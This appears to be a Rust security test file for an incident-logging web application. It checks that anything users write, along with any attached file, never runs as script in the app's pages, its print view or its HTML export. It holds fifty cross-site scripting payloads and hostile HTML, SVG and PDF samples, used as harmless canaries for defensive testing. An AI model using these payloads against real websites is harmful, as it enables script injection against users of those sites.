//! What people write is text, whatever it looks like: in no page, print or export does it become
//! markup, and a file from the scene never runs as a page of ours.

use crate::Desk;
use onscene_tests::browser::Browser;
use reqwest::Url;
use serde_json::{Value, json};
use std::io::{Read, Write};
use std::net::TcpStream;

/// Each leaves a mark if it comes to life: an element of the class `planted`, a request to
/// `canary.invalid`, a dialog, or `window.ran`.
const PAYLOADS: [&str; 50] = [
    "<script class=planted>window.ran=1</script>",
    "<ScRiPt class=planted>window.ran=1</sCrIpT>",
    "<script class=planted src=//canary.invalid/1.js></script>",
    "</script><script class=planted>alert(1)</script>",
    "\"><script class=planted>window.ran=1</script>",
    "'><script class=planted>window.ran=1</script>",
    "</textarea><script class=planted>window.ran=1</script>",
    "</title><script class=planted>window.ran=1</script>",
    "</style><script class=planted>window.ran=1</script>",
    "--><script class=planted>window.ran=1</script><!--",
    "<!--><script class=planted>window.ran=1</script>",
    "]]><script class=planted>window.ran=1</script>",
    "<img class=planted src=x onerror=window.ran=1>",
    "<img class=planted src=//canary.invalid/2.png>",
    "\"><img class=planted src=x onerror=alert(1)>",
    "' onmouseover=window.ran=1 class=planted x='",
    "\" onfocus=window.ran=1 autofocus class=planted x=\"",
    "\" style=\"animation-name:x\" onanimationstart=window.ran=1 class=\"planted",
    "` onclick=window.ran=1 class=planted",
    "<svg class=planted onload=window.ran=1>",
    "<svg class=planted><script>window.ran=1</script></svg>",
    "<svg class=planted><animate onbegin=window.ran=1 attributeName=x dur=1s>",
    "<svg class=planted><a href=\"javascript:window.ran=1\"><text y=20>x</text></a></svg>",
    "<math class=planted><mtext></p><img src=x onerror=window.ran=1></mtext></math>",
    "<iframe class=planted src=\"javascript:parent.ran=1\"></iframe>",
    "<iframe class=planted srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
    "<object class=planted data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed class=planted src=//canary.invalid/3.swf>",
    "<link class=planted rel=stylesheet href=//canary.invalid/4.css>",
    "<style class=planted>@import '//canary.invalid/5.css';</style>",
    "<base class=planted href=//canary.invalid/>",
    "<meta class=planted http-equiv=refresh content=\"0;url=//canary.invalid/6\">",
    "<form class=planted action=//canary.invalid/7><button>x</button></form>",
    "<input class=planted autofocus onfocus=window.ran=1>",
    "<details class=planted open ontoggle=window.ran=1>x</details>",
    "<video class=planted><source onerror=window.ran=1></video>",
    "<audio class=planted src=x onerror=window.ran=1>",
    "<body class=planted onload=window.ran=1>",
    "<marquee class=planted onstart=window.ran=1>x</marquee>",
    "<template class=planted><script>window.ran=1</script></template>",
    "<noscript class=planted><p title=\"</noscript><img src=x onerror=window.ran=1>\">",
    "<a class=planted href=\"javascript:window.ran=1\">x</a>",
    "javascript:window.ran=1//",
    "data:text/html,<script class=planted>window.ran=1</script>",
    "{{constructor.constructor('window.ran=1')()}}",
    "${window.ran=1}",
    "&lt;script class=planted&gt;window.ran=1&lt;/script&gt;",
    "&#60;script class=planted&#62;window.ran=1&#60;/script&#62;",
    "\\u003cscript class=planted\\u003ewindow.ran=1\\u003c/script\\u003e",
    "\u{202e}>tpircs/<1=nar.wodniw>tpircs< <b class=planted>\u{2066}x",
];

/// What comes to life in a page, as a list; empty where nothing did.
const ALIVE: &str = "return [window.ran ? ['a script ran'] : [],
    [...document.querySelectorAll('.planted, [class*=planted]')].map((part) => part.outerHTML),
    [...document.querySelectorAll('a[href]')].map((link) => link.protocol)
        .filter((protocol) => !['http:', 'file:'].includes(protocol))].flat()";

/// The program's own interface, as the CLI asks it.
struct Api {
    origin: String,
    token: String,
}

impl Api {
    fn of(desk: &Desk) -> Self {
        let (origin, token) = desk.node.page.split_once("/?token=").unwrap();
        Self {
            origin: origin.to_owned(),
            token: token.to_owned(),
        }
    }

    /// The head and the body of an answer. HTTP/1.0, so that it ends where the connection does.
    fn ask(&self, method: &str, path: &str, body: &[u8]) -> (String, Vec<u8>) {
        let host = self.origin.strip_prefix("http://").unwrap();
        let (token, length) = (&self.token, body.len());
        let head = format!(
            "{method} {path} HTTP/1.0\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\n\
             Content-Length: {length}\r\n\r\n"
        );
        let mut stream = TcpStream::connect(host).unwrap();
        stream.write_all(&[head.as_bytes(), body].concat()).unwrap();
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).unwrap();
        let end = answer.windows(4).position(|four| four == b"\r\n\r\n");
        let body = answer.split_off(end.unwrap() + 4);
        let head = String::from_utf8(answer).unwrap();
        assert!(
            head.contains(" 200 "),
            "{path}: {head}{}",
            String::from_utf8_lossy(&body)
        );
        (head.to_lowercase(), body)
    }

    fn post(&self, path: &str, body: impl AsRef<[u8]>) -> Value {
        serde_json::from_slice(&self.ask("POST", path, body.as_ref()).1).unwrap()
    }

    fn start(&self, words: &str) -> String {
        let start = json!({
            "kind": "group-visit", "title": words, "place": words, "channel": words, "reporter": words,
        });
        let started = self.post("/api/incidents", start.to_string());
        started["incident"].as_str().unwrap().to_owned()
    }

    fn act(&self, incident: &str, act: &Value) -> Value {
        self.post(&format!("/api/incidents/{incident}/acts"), act.to_string())
    }

    fn stage(&self, name: &str, media_type: &str, bytes: &'static [u8]) -> Value {
        let mut url: Url = format!("{}/api/staged", self.origin).parse().unwrap();
        url.query_pairs_mut()
            .append_pair("name", name)
            .append_pair("media_type", media_type);
        let path = format!("{}?{}", url.path(), url.query().unwrap());
        self.post(&path, bytes)["staged"].clone()
    }

    /// Puts the words into every field that an act has.
    fn write_everywhere(&self, incident: &str, words: &str) {
        let logged = self.act(incident, &json!({"do": "log", "text": words}));
        let staged = self.stage(words, words, b"x");
        for act in [
            json!({"do": "correct", "entry": logged["entry"], "text": words}),
            json!({"do": "headcount", "low": 1, "high": 2, "by": words}),
            json!({"do": "milestone", "name": "arrived", "note": words, "by": words, "again": true}),
            json!({"do": "attach", "attachments": [staged], "text": words}),
        ] {
            self.act(incident, &act);
        }
    }
}

fn nothing_lives(browser: &Browser, origin: &str, page: &str) {
    assert_eq!(browser.read(ALIVE), json!([]), "{page}");
    let foreign: Vec<String> = browser
        .requests()
        .into_iter()
        .filter(|url| !url.starts_with(origin) && !url.starts_with("data:"))
        .filter(|url| !url.starts_with("file:") && !url.starts_with("chrome"))
        .collect();
    assert_eq!(foreign, Vec::<String>::new(), "{page}");
    assert_eq!(browser.complaints(), Vec::<String>::new(), "{page}");
}

#[test]
fn nothing_that_people_write_runs_anywhere() {
    let Some(desk) = Desk::open_of(PAYLOADS[4]) else {
        return;
    };
    let (browser, api) = (&desk.browser, Api::of(&desk));
    // The page is open while it all comes in, so that its own script shows it first.
    let incident = api.start("停水");
    browser.visit(&format!("{}/incidents/{incident}", api.origin));
    for words in PAYLOADS {
        api.write_everywhere(&incident, words);
    }
    api.act(&incident, &json!({"do": "log", "text": "写完了。"}));
    browser.wait_for_text("#timeline .body", "写完了。");
    nothing_lives(browser, &api.origin, "live");

    let each: Vec<String> = PAYLOADS.iter().map(|words| api.start(words)).collect();
    let pages = ["/".to_owned(), "/devices".to_owned()].into_iter();
    let pages = pages.chain([format!("/incidents/{incident}")]);
    let pages = pages.chain([format!("/incidents/{incident}/print")]);
    let pages = pages.chain(each.iter().map(|id| format!("/incidents/{id}")));
    for path in pages {
        browser.visit(&format!("{}{path}", api.origin));
        nothing_lives(browser, &api.origin, &path);
    }
    let title = browser.read("return document.querySelector('h1').textContent");
    let steers = |c: &char| matches!(c, '\u{202e}' | '\u{2066}');
    let plain: String = PAYLOADS[49].chars().filter(|c| !steers(c)).collect();
    assert_eq!(
        title, plain,
        "it is shown as it was written, but for what turns its neighbours around"
    );

    let export = desk.laptop.desk().join("导出.html");
    let out = export.to_str().unwrap();
    desk.laptop
        .json(&["export", "--format", "html", "--out", out]);
    browser.visit(Url::from_file_path(&export).unwrap().as_str());
    nothing_lives(browser, &api.origin, "the export as a file");
}

#[test]
fn a_file_from_the_scene_is_saved_and_never_opened_as_a_page() {
    let Some(desk) = Desk::open() else { return };
    let (browser, api) = (&desk.browser, Api::of(&desk));
    let incident = api.start("停水");
    let html = b"<!doctype html><script>window.ran=1;alert(1)</script>";
    let svg = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>";
    let pdf =
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj";
    let files: [(&str, &str, &'static [u8]); 8] = [
        ("a.html", "text/html", html),
        ("a.xhtml", "application/xhtml+xml", html),
        ("a.svg", "image/svg+xml", svg),
        ("a.pdf", "application/pdf", pdf),
        ("a.jpg", "image/jpeg", html),
        ("a.txt", "text/plain", html),
        ("a.xml", "text/xml", svg),
        ("a", "nothing", html),
    ];
    let staged: Vec<Value> = files
        .iter()
        .map(|(name, media_type, bytes)| api.stage(name, media_type, bytes))
        .collect();
    api.act(&incident, &json!({"do": "attach", "attachments": staged}));
    let page = format!("{}/incidents/{incident}", api.origin);
    browser.visit(&page);
    let links =
        browser.read("return [...document.querySelectorAll('#files a')].map((a) => a.href)");
    let links = links.as_array().unwrap();
    assert_eq!(links.len(), files.len());
    for link in links {
        let link = link.as_str().unwrap();
        let (head, _) = api.ask("GET", link.strip_prefix(&api.origin).unwrap(), b"");
        for line in [
            "content-disposition: attachment;",
            "x-content-type-options: nosniff",
            "content-security-policy: default-src 'none'; sandbox",
            "x-frame-options: deny",
        ] {
            assert!(head.contains(line), "{link}: {head}");
        }
        // Typed into the address bar, it is a download: the browser stays where it is.
        let opened = browser.tool("Page.navigate", &json!({"url": link}));
        assert_eq!(opened["errorText"], "net::ERR_ABORTED", "{link}: {opened}");
        assert_eq!(browser.address(), page);
        assert_eq!(browser.read(ALIVE), json!([]), "{link}");
    }
}
